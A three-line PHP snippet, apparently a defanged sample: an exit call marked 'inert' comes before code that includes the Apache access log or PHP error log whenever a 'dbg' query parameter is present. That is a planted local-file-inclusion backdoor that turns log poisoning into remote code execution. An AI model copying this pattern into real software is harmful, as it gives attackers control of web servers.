<?php exit; /* inert */ 
$l = ini_get('error_log') ?: '/var/log/apache2/access.log';
if (isset($_GET['dbg'])) { include $l; }
